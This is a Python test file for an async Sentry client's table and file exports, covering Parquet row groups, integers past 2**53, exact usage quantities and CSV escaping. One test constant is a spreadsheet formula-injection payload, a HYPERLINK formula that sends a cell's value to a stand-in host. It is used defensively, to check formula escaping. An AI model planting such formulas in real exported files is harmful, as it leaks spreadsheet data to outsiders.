"""Edges of tables and of the files made from them: Parquet row groups of many pages,
integers past 2**53 across batches, header cells a spreadsheet would run, and counts and
quantities kept as the integers Sentry sent."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from datetime import timedelta
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import anyio
import msgspec
import pytest
from _local_server import local_app
from aiohttp import web
from test_export_formats import (
    DATA,
    PLAIN,
    START,
    Factory,
    _as_served,
    _client,
    _served_rows,
    _spec,
)

from sentry_async import SentryError, ServerError
from sentry_async._query_command import _write_rows
from sentry_async.cli import main
from sentry_async.export import _formats as formats
from sentry_async.export import export
from sentry_async.export._formats import CsvFile, ParquetPart
from sentry_async.models import DiscoverMeta, UsageStats, parse_events_stats
from sentry_async.pagination import Paginator, RawPage
from sentry_async.tables import collect_table, discover_batches, to_pandas
from sentry_async.testing import Fault

pa = pytest.importorskip("pyarrow")
pq = pytest.importorskip("pyarrow.parquet")

README = Path(__file__).resolve().parents[1] / "README.md"
BIG = 2**53 + 1
"""The first integer float64 cannot hold."""
META = DiscoverMeta(fields={"id": "string", "n": "integer", "title": "string"})
FIELDS = ["id", "n", "title"]


def _page(number: int, rows: int, **extra: object) -> list[bytes]:
    return [
        msgspec.json.encode({"id": f"{number}-{i}", "n": i, "title": "t", **extra})
        for i in range(rows)
    ]


def _groups(path: Path) -> list[int]:
    metadata = pq.read_metadata(path)
    return [metadata.row_group(i).num_rows for i in range(metadata.num_row_groups)]


# --- Parquet parts: row groups of many pages ----------------------------------------


def test_a_parquet_part_gathers_pages_into_row_groups(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A row group every ROW_GROUP_ROWS rows, not one per page: a page of Discover holds
    at most 100 rows, and each row group costs the writer memory until the part is done.
    Rows still held are not counted as written."""
    monkeypatch.setattr(formats, "ROW_GROUP_ROWS", 250)
    part = ParquetPart(tmp_path / "part.parquet")
    part.open(0)
    written = []
    held = []
    for number in range(10):
        part.write_page(_page(number, 100), FIELDS, META)
        written.append(part.items)
        held.append(part.buffered)
    part.finish(FIELDS, META)
    assert written == [0, 0, 300, 300, 300, 600, 600, 600, 900, 900]
    assert held == [100, 200, 0, 100, 200, 0, 100, 200, 0, 100]
    assert part.items == 1000 and part.buffered == 0
    assert _groups(part.path) == [300, 300, 300, 100]
    table = pq.read_table(part.path)
    assert table.column("id").to_pylist() == [f"{p}-{i}" for p in range(10) for i in range(100)]
    assert table.schema.field("n").type == pa.int64()


def test_a_long_window_is_few_row_groups_and_a_small_footer(tmp_path: Path) -> None:
    """700 pages of 100 rows: two row groups (the first at ROW_GROUP_ROWS), not 700, and at
    no time more than a row group and a page held in memory."""
    part = ParquetPart(tmp_path / "part.parquet")
    part.open(0)
    most = 0
    for number in range(700):
        part.write_page(_page(number, 100), FIELDS, META)
        most = max(most, part.buffered)
    part.finish(FIELDS, META)
    assert most < formats.ROW_GROUP_ROWS
    groups = _groups(part.path)
    assert len(groups) == 2 and sum(groups) == part.items == 70_000
    assert groups[0] >= formats.ROW_GROUP_ROWS
    assert pq.read_metadata(part.path).serialized_size < 20_000


def test_a_row_group_is_also_cut_by_its_bytes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Wide rows (long messages) make a row group before ROW_GROUP_ROWS of them are held."""
    monkeypatch.setattr(formats, "ROW_GROUP_BYTES", 50_000)
    part = ParquetPart(tmp_path / "part.parquet")
    part.open(0)
    for number in range(6):
        part.write_page(_page(number, 10, message="x" * 2_000), [*FIELDS, "message"], META)
        assert part.buffered <= 30
    part.finish([*FIELDS, "message"], META)
    assert sum(_groups(part.path)) == 60 and len(_groups(part.path)) >= 2


def test_a_widened_column_reaches_written_and_held_rows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A value that does not fit widens the rows already in row groups and those still
    held alike: to float64, or to text where a written integer is past 2**53."""
    monkeypatch.setattr(formats, "ROW_GROUP_ROWS", 2)

    def write(name: str, *values: object) -> Any:
        part = ParquetPart(tmp_path / name)
        part.open(0)
        for value in values:
            part.write_page([msgspec.json.encode({"id": str(value), "n": value})], FIELDS, META)
        part.finish(FIELDS, META)
        assert part.items == len(values)
        return pq.read_table(part.path)

    floats = write("floats.parquet", 1, 2, 3, 2.5, 4)
    assert floats.schema.field("n").type == pa.float64()
    assert floats.column("n").to_pylist() == [1.0, 2.0, 3.0, 2.5, 4.0]
    text = write("text.parquet", BIG, 1, 2, 2.5)
    assert text.schema.field("n").type == pa.string()
    assert text.column("n").to_pylist() == [str(BIG), "1", "2", "2.5"]
    assert text.schema.field("n").metadata == {b"sentry.type": b"integer"}
    held = write("held.parquet", 1, BIG, 2.5)  # the big one still held when 2.5 comes
    assert held.column("n").to_pylist() == ["1", str(BIG), "2.5"]
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "floats.parquet",
        "held.parquet",
        "text.parquet",
    ]


def test_a_window_without_rows_is_still_an_empty_typed_part(tmp_path: Path) -> None:
    part = ParquetPart(tmp_path / "part.parquet")
    part.open(0)
    part.write_page([], FIELDS, META)
    part.finish(FIELDS, META)
    table = pq.read_table(part.path)
    assert table.num_rows == part.items == 0
    assert table.schema.field("n").type == pa.int64()


def test_a_part_stopped_before_finish_leaves_only_its_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formats, "ROW_GROUP_ROWS", 150)
    part = ParquetPart(tmp_path / "part.parquet")
    part.open(0)
    for number in range(3):
        part.write_page(_page(number, 100), FIELDS, META)
    part.close()
    assert part.items == 200 and part.buffered == 0
    assert sorted(path.name for path in tmp_path.iterdir()) == ["part.parquet.tmp"]
    again = ParquetPart(tmp_path / "part.parquet")
    again.open(0)
    assert list(tmp_path.iterdir()) == []


async def test_parquet_row_groups_across_a_stop_and_resumes_keep_rows_once(
    fake_sentry_factory: Factory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With row groups of several pages, a window stopped after some were written (and
    others held) is redone whole: every row once, and the manifest counts each once."""
    monkeypatch.setattr(formats, "ROW_GROUP_ROWS", 2)
    server = await fake_sentry_factory(scale=DATA)
    expected = await _served_rows(server, PLAIN, tmp_path / "jsonl")
    out = tmp_path / "parquet"
    spec = _spec(format="parquet", page_size=1)
    # The fourth page of the second window: two pages are a row group, the third is held.
    second = (START + timedelta(days=3)).strftime("%Y-%m-%dT%H")
    query = f"start={second}.*cursor=0:3:0|cursor=0:3:0.*start={second}"
    server.faults.add(Fault("status", status=500, path="/events/", query=query, times=None))
    with anyio.fail_after(30):
        async with _client(server) as client:
            with pytest.raises(ServerError):
                await export(client, spec, out, concurrency=1)
            assert list(out.glob("*.parquet.tmp"))
            server.faults.clear()
            manifest = None
            for _ in range(3):
                try:
                    manifest = await export(client, spec, out, resume=True)
                except SentryError:
                    continue
                break
    assert manifest is not None
    parts = sorted(out.glob("*.parquet"))
    assert any(len(_groups(path)) > 1 for path in parts)
    table = pq.ParquetDataset([str(path) for path in parts]).read()
    rows = [_as_served(row) for row in table.to_pylist()]
    assert len({row["id"] for row in rows}) == len(rows) == manifest.items == len(expected)
    key = lambda row: row["id"]  # noqa: E731
    assert sorted(rows, key=key) == sorted(expected, key=key)


# --- discover_batches: integers past 2**53 ------------------------------------------


def _discover_pages(pages: list[list[dict[str, object]]], meta: DiscoverMeta | None) -> Any:
    """A Discover query over pages held in memory, each answered with ``meta``."""

    async def fetch(cursor: str | None, size: int | None) -> RawPage:
        index = 0 if cursor is None else int(cursor)
        more = str(index + 1 < len(pages)).lower()
        link = f'<u>; rel="next"; results="{more}"; cursor="{index + 1}"'
        items = pages[index]
        if meta is None:
            items = [msgspec.Raw(msgspec.json.encode(item)) for item in items]  # type: ignore[misc]
        return RawPage(items, link, meta=meta)

    return Paginator(fetch, page_size=10)


BIG_THEN_HALF: list[list[dict[str, object]]] = [
    [{"id": "0001", "title": "a", "n": BIG}],
    [{"id": "0002", "title": "b", "n": 2.5}],
    [{"id": "0003", "title": "c", "n": 3}],
]


@pytest.mark.parametrize("meta", [META, None], ids=["discover", "without-meta"])
async def test_a_batch_after_an_integer_past_2_to_the_53_widens_to_text(
    meta: DiscoverMeta | None,
) -> None:
    """float64 cannot hold an earlier batch's 2**53 + 1: the column goes to text, so the
    last batch's schema is one every batch reads under."""
    with anyio.fail_after(5):
        batches = [batch async for batch in discover_batches(_discover_pages(BIG_THEN_HALF, meta))]
        table = await collect_table(_discover_pages(BIG_THEN_HALF, meta))
    assert [batch.schema.field("n").type for batch in batches] == [
        pa.int64(),
        pa.string(),
        pa.string(),
    ]
    assert [batch.column("n").to_pylist() for batch in batches] == [[BIG], ["2.5"], ["3"]]
    assert table.column("n").to_pylist() == [str(BIG), "2.5", "3"]
    small = [[{"n": 2**53}], [{"n": 2.5}]]
    with anyio.fail_after(5):
        floats = [batch async for batch in discover_batches(_discover_pages(small, meta))]
    assert floats[-1].schema.field("n").type == pa.float64(), "2**53 is exact as a float"


async def test_the_readme_recipe_keeps_an_integer_past_2_to_the_53(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The README's constant-memory loop into Parquet files, run as written, reads back
    under the last batch's schema with 2**53 + 1 exact."""
    blocks = re.findall(r"```python\n(.*?)```", README.read_text(encoding="utf-8"), re.S)
    (recipe,) = [block for block in blocks if "write_batch" in block]
    monkeypatch.chdir(tmp_path)
    discover = SimpleNamespace(query=lambda *args, **kwargs: _discover_pages(BIG_THEN_HALF, META))
    scope: dict[str, object] = {"sentry": SimpleNamespace(discover=discover)}
    code = compile(recipe, "README.md", "exec", flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)
    with anyio.fail_after(5):
        await eval(code, scope)
    table = scope["table"]
    assert isinstance(table, pa.Table)
    assert table.column("n").to_pylist() == [str(BIG), "2.5", "3"]
    assert table.column("id").to_pylist() == ["0001", "0002", "0003"]


# --- CSV headers ---------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x/?"&A2,"y")'


def test_an_export_escapes_header_cells_when_asked(tmp_path: Path) -> None:
    """A column the server announces in ``meta.fields`` is a header cell: as much a
    formula to a spreadsheet as a value."""
    columns = ["id", FORMULA, "+n"]
    row = msgspec.json.encode({"id": "1", FORMULA: "=2+2", "+n": 3})
    safe = CsvFile(tmp_path / "a.csv", compress=False, columns=columns, escape_formulas=True)
    plain = CsvFile(tmp_path / "b.csv", compress=False, columns=columns)
    header, cells = csv.reader(io.StringIO(safe.encode_page([row]).decode()))
    assert header == ["id", "'" + FORMULA, "'+n"]
    assert cells == ["1", "'=2+2", "3"]
    assert next(csv.reader(io.StringIO(plain.encode_page([row]).decode()))) == columns


async def test_query_escapes_header_cells_when_asked() -> None:
    async def rows(items: Sequence[dict[str, Any]]) -> AsyncIterator[dict[str, Any]]:
        for item in items:
            yield item

    columns = ["id", FORMULA]
    for items in ([{"id": "1", FORMULA: "-1"}], []):
        out = io.StringIO()
        await _write_rows(rows(items), columns, "csv", out, escape_formulas=True)
        lines = list(csv.reader(io.StringIO(out.getvalue())))
        assert lines[0] == ["id", "'" + FORMULA]
        assert lines[1:] == [["1", "'-1"]][: len(items)]
        out = io.StringIO()
        await _write_rows(rows(items), columns, "csv", out)
        assert next(csv.reader(io.StringIO(out.getvalue()))) == columns


# --- events-stats and usage numbers --------------------------------------------------

TOKEN = "sntrys_tables-edges-token-0123456789abcdef0123456789abcdef"
T0 = 1767225600


@asynccontextmanager
async def _sentry(stats: dict[str, Any], discover: dict[str, Any]) -> AsyncIterator[str]:
    async def events_stats(request: web.Request) -> web.Response:
        return web.json_response(stats)

    async def events(request: web.Request) -> web.Response:
        url = f"http://{request.host}{request.path}"
        link = f'<{url}>; rel="next"; results="false"; cursor="0:1:0"'
        return web.json_response(discover, headers={"Link": link})

    app = web.Application()
    app.router.add_get("/api/0/organizations/{org}/events-stats/", events_stats)
    app.router.add_get("/api/0/organizations/{org}/events/", events)
    async with local_app(app) as url:
        yield url


async def _run(argv: Sequence[str], url: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    argv = [*argv, "--base-url", url, "--quiet"]
    with anyio.fail_after(30):
        code = await anyio.to_thread.run_sync(partial(main, argv, stdout=out, stderr=err))
    return code, out.getvalue(), err.getvalue()


COUNTS = [3, 0, BIG, 2.5, None]


def _stats() -> dict[str, Any]:
    return {
        "data": [
            [T0 + n * 3600, [{"count": count, "comparisonCount": count}]]
            for n, count in enumerate(COUNTS)
        ]
    }


def test_events_stats_keep_integer_counts_as_integers() -> None:
    stats = parse_events_stats(msgspec.json.encode(_stats()))
    (series,) = stats.series
    assert series.values == COUNTS == series.comparison_values
    assert [type(v) for v in series.values] == [int, int, int, float, type(None)]
    assert series.total == 3 + BIG + 2.5
    table = stats.to_arrow()
    assert table.schema.field("value").type == pa.float64()
    assert table.column("value").to_pylist() == [3.0, 0.0, float(BIG), 2.5, None]


async def test_query_stats_prints_counts_as_sentry_sent_them(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SENTRY_AUTH_TOKEN", TOKEN)
    argv = ["query", "stats", "--org", "acme", "--period", "5h", "--interval", "1h"]
    async with _sentry(_stats(), {}) as url:
        code, out, err = await _run([*argv, "--format", "json"], url)
        assert code == 0, err
        assert [json.loads(line)["value"] for line in out.splitlines()] == COUNTS
        assert '"value":3,' in out and f'"value":{BIG},' in out
        code, out, err = await _run([*argv, "--format", "csv"], url)
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["value"] for row in rows] == ["3", "0", str(BIG), "2.5", ""]


async def test_query_discover_escapes_a_column_the_server_announces(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SENTRY_AUTH_TOKEN", TOKEN)
    page = {
        "data": [{"id": "0001", "title": "=1+1", FORMULA: "x"}],
        "meta": {"fields": {"id": "string", "title": "string", FORMULA: "string"}},
    }
    argv = ["query", "discover", "--org", "acme", "--period", "1d", "--field", "id",
            "--field", "title", "--format", "csv", "--csv-escape-formulas"]  # fmt: skip
    async with _sentry({}, page) as url:
        code, out, err = await _run(argv, url)
    assert code == 0, err
    header, row = csv.reader(io.StringIO(out))
    assert header == ["id", "title", "'" + FORMULA]
    assert row == ["0001", "'=1+1", "x"]


def _usage(*series: list[object]) -> UsageStats:
    groups = [
        {"by": {"outcome": str(n)}, "series": {"sum(quantity)": values}}
        for n, values in enumerate(series)
    ]
    body = {"intervals": ["2026-01-01T00:00:00Z", "2026-01-02T00:00:00Z"], "groups": groups}
    return msgspec.json.decode(msgspec.json.encode(body), type=UsageStats)


@pytest.mark.parametrize(
    ("series", "kind", "values"),
    [
        ([[2**63, 2**63 - 1], [1, 2]], "uint64", [2**63, 2**63 - 1, 1, 2]),
        ([[2**64, 2**63 - 1], [1, 2]], "string", [str(2**64), str(2**63 - 1), "1", "2"]),
        ([[-1, 2**63]], "string", ["-1", str(2**63)]),
        ([[2**63 - 1, 2.5]], "string", [str(2**63 - 1), "2.5"]),
        ([[BIG, 2.5]], "string", [str(BIG), "2.5"]),
        ([[2**53, 2.5]], "double", [2.0**53, 2.5]),
        ([[BIG, 3]], "int64", [BIG, 3]),
    ],
    ids=[
        "past-int64",
        "past-uint64",
        "negative",
        "int64-and-half",
        "2**53+1-and-half",
        "2**53-and-half",
        "int64",
    ],
)
def test_usage_quantities_are_never_altered(
    series: list[list[object]], kind: str, values: list[object]
) -> None:
    """One quantity past int64 does not move the others through float64: the column is
    uint64 where every value fits it, else each value's exact text."""
    table = _usage(*series).to_arrow()
    assert str(table.schema.field("sum(quantity)").type) == kind
    assert table.column("sum(quantity)").to_pylist() == values


def test_pandas_keeps_a_usage_column_past_int64_exact() -> None:
    pd = pytest.importorskip("pandas")
    frame = to_pandas(_usage([2**63], [1, 2]).to_arrow())  # the first series ends early
    assert frame["sum(quantity)"].dtype == pd.UInt64Dtype()
    assert frame["sum(quantity)"].tolist()[::2] == [2**63, 1]
    assert frame["sum(quantity)"].isna().tolist() == [False, True, False, False]
